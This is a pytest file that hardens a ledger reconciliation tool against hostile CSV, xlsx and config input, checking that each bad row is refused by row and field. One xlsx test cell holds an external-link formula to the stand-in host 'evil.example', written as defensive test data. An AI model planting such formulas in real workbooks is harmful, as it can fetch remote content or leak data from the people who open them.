"""Issue "Hardening" 4 (scenario table C): a real `recon run` over a hostile ledger or config.

Every case starts from a copy of the reference run's work folder (already synced and
reconciled), so the bad run's sync adds nothing and any new row in the store would come from the
bad input. Pass: exit 65 (78 for the config), stderr names the file, the row and the field,
no traceback, nothing new in the store, no report written."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select, text

from recon.store.schema import runs
from reliability.harness import Reference, Workdir, copy_workdir, store_state

pytestmark = [pytest.mark.reliability, pytest.mark.slow]

HEADER = "entry_id,date,amount,currency,description,reference,counterparty,account"
IN_WINDOW = "2026-11-19"
STORE_TABLES = ("bank_transactions", "sync_cursors", "items", "ledger_snapshots",
                "ledger_entries", "matches", "discrepancies")


def _row(entry_id: str, *, day: str = IN_WINDOW, amount: str = "-10.00", currency: str = "USD",
         description: str = "Office supplies", account: str = "1010-operating-usd") -> str:
    return f"{entry_id},{day},{amount},{currency},{description},,Acme,{account}"


def _store_dump(work: Workdir) -> dict[str, Any]:
    """Everything a run could add, except its own `runs` audit row."""
    engine = work.engine()
    try:
        state = store_state(engine)
        with engine.connect() as conn:
            counts = {t: conn.execute(text(f"SELECT count(*) FROM {t}")).scalar_one()
                      for t in STORE_TABLES}
            last_sync = conn.execute(text("SELECT item_id, cursor FROM sync_cursors")).all()
    finally:
        engine.dispose()
    return {"bank": state.bank, "cursors": state.cursors, "ledger": state.ledger,
            "matches": state.matches, "discrepancies": state.discrepancies,
            "counts": counts, "sync": sorted(last_sync)}


def _last_run(work: Workdir) -> tuple[str, int | None, str | None]:
    engine = work.engine()
    try:
        with engine.connect() as conn:
            row = conn.execute(select(runs.c.state, runs.c.exit_code, runs.c.error)
                               .order_by(runs.c.started_at.desc()).limit(1)).one()
    finally:
        engine.dispose()
    return str(row.state), row.exit_code, row.error


@pytest.fixture
def synced(reference: Reference, tmp_path: Path) -> Workdir:
    return copy_workdir(reference.work, tmp_path / "var", formats=("json",))


def _refused(work: Workdir, *, file: Path, where: list[str]) -> subprocess.CompletedProcess[str]:
    before = _store_dump(work)
    result = work.run()
    assert result.returncode == 65, result.stderr[-3000:]
    assert "Traceback" not in result.stderr
    assert str(file) in result.stderr
    for fragment in where:
        assert fragment in result.stderr, (fragment, result.stderr[-3000:])
    assert _store_dump(work) == before  # no ledger snapshot, match or discrepancy written
    state, exit_code, _error = _last_run(work)
    assert (state, exit_code) == ("failed", 65)
    assert not work.reports_dir.exists() or list(work.reports_dir.iterdir()) == []
    return result


def _append_rows(ledger: Path, rows: list[str], *, encoding: str = "utf-8") -> int:
    """Append CSV lines; returns the spreadsheet row number of the first one."""
    existing = ledger.read_bytes()
    first_row = existing.count(b"\n") + 1
    ledger.write_bytes(existing + "".join(r + "\n" for r in rows).encode(encoding))
    return first_row


def test_bad_values_are_each_refused_with_their_row_and_field(synced: Workdir) -> None:
    ledger = synced.root / "demo" / "ledger.csv"
    bad: list[tuple[str, str]] = [  # (row, the field it must be blamed on)
        (_row("BAD-NAN", amount="NaN"), "amount"),
        (_row("BAD-INF", amount="Infinity"), "amount"),
        (_row("BAD-NEGINF", amount="-inf"), "amount"),
        (_row("BAD-EXP", amount="1e3"), "amount"),
        (_row("BAD-DECIMALS", amount="12.345"), "amount"),
        (_row("BAD-JPY", amount="100.5", currency="JPY", account="1030-tokyo-jpy"), "amount"),
        (_row("BAD-ARABIC", amount="١٢٣.٤٥"), "amount"),
        (_row("BAD-CURRENCY", currency="XYZ"), "currency"),
        (_row("BAD-FEB30", day="2026-02-30"), "date"),
        (_row("BAD-AMBIGUOUS", day="03/04/2026"), "date"),
        (_row("BAD-DATETIME", day="2026-11-19T10:00:00"), "date"),
        (_row("JE-000004"), "entry_id"),  # the id of an existing row, other amount
        (_row("BAD-HUGE", description="x" * 100_001), "description"),
    ]
    first = _append_rows(ledger, [row for row, _field in bad])
    where = [f"row {first + i}, column '{field}'" for i, (_row_text, field) in enumerate(bad)]
    result = _refused(synced, file=ledger, where=where)
    assert "x" * 1000 not in result.stderr  # a huge field is named, not echoed


def test_malformed_csv_rows_are_each_refused_naming_their_row(synced: Workdir) -> None:
    """One file, one run: every malformed record is listed (the unterminated quote is last, as
    it swallows the rest of the file)."""
    ledger = synced.root / "demo" / "ledger.csv"
    rows = [
        _row("BAD-WIDTH") + ",extra",
        _row("BAD-QUOTE2", description='"ab"cd'),  # text after a closing quote
        _row("BAD-NUL", description="a\0b"),
        _row("BAD-HUGE", description="y" * 131_073),  # over the csv module's field limit
        _row("BAD-QUOTE", description='"never closed'),
    ]
    first = _append_rows(ledger, rows)
    latin1 = _append_rows(ledger, [_row("BAD-LATIN1", description="Café Müller")],
                          encoding="latin-1")
    # The Latin-1 line now sits inside the unterminated quote; put it before it instead.
    content = ledger.read_bytes().splitlines(keepends=True)
    content.insert(first - 1 + 4, content.pop(latin1 - 1))
    ledger.write_bytes(b"".join(content))
    where = [f"row {first + i}" for i in range(len(rows) + 1)]
    where += [f"row {first + 2}, column 'description'", f"row {first + 4}, column 'description'"]
    result = _refused(synced, file=ledger, where=where)
    assert "\0" not in result.stderr and "y" * 1000 not in result.stderr
    assert "a field is longer than 131072 characters" in result.stderr


def test_xlsx_ledger_with_formulas_and_external_links_is_refused(
    reference: Reference, tmp_path: Path
) -> None:
    workbook_path = tmp_path / "ledger.xlsx"

    def use_xlsx(data: dict[str, Any]) -> None:
        data["ledger"]["source"] = "xlsx"
        data["ledger"]["path"] = str(workbook_path)

    work = copy_workdir(reference.work, tmp_path / "var", formats=("json",), tweak=use_xlsx)
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(["JE-1", IN_WINDOW, "-10.00", "USD", "Plain row", "", "Acme",
                  "1010-operating-usd"])
    # Formulas saved by openpyxl have no cached value: recon must never evaluate them.
    sheet.append(["JE-2", IN_WINDOW, "=1+2", "USD", "Formula amount", "", "Acme",
                  "1010-operating-usd"])
    sheet.append(["JE-3", IN_WINDOW, "-10.00", "USD", "='[budget.xlsx]Sheet1'!A1", "", "Acme",
                  "1010-operating-usd"])
    sheet.append(["JE-4", IN_WINDOW, "='http://evil.example/[x.xlsx]S'!A1", "USD", "Remote",
                  "", "Acme", "1010-operating-usd"])
    workbook.save(workbook_path)
    _refused(work, file=workbook_path, where=["row 3, column 'amount'",
                                              "row 4, column 'description'",
                                              "row 5, column 'amount'"])


def test_config_with_a_plaintext_secret_is_refused_without_echoing_it(
    reference: Reference, tmp_path: Path
) -> None:
    secret = "sk-canary-pasted-9d2f11c7e0"
    work = copy_workdir(reference.work, tmp_path / "var", formats=("json",))
    before = _store_dump(work)
    runs_before = _run_count(work)
    config_text = work.config_file.read_text().replace("plaid:\n", f"plaid:\n  secret: {secret}\n")
    assert secret in config_text
    work.config_file.write_text(config_text)
    result = work.run()
    assert result.returncode == 78, result.stderr[-3000:]
    assert str(work.config_file) in result.stderr or "config" in result.stderr
    assert "plaid.secret" in result.stderr and "environment variable" in result.stderr
    assert secret not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert _store_dump(work) == before
    assert _run_count(work) == runs_before  # refused before any run began
    assert not work.reports_dir.exists()
    log_dir = work.root / "log"
    assert all(secret not in p.read_text() for p in log_dir.rglob("*") if p.is_file())


def _run_count(work: Workdir) -> int:
    engine = work.engine()
    try:
        with engine.connect() as conn:
            return int(conn.execute(text("SELECT count(*) FROM runs")).scalar_one())
    finally:
        engine.dispose()
